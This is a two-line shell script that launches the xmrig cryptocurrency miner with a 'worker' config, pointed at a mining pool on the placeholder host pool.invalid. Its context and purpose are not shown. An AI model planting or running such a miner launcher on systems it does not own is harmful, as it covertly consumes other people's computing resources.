#!/bin/sh
exec xmrig --config=tools/worker.json --url stratum+tcp://pool.invalid:3333
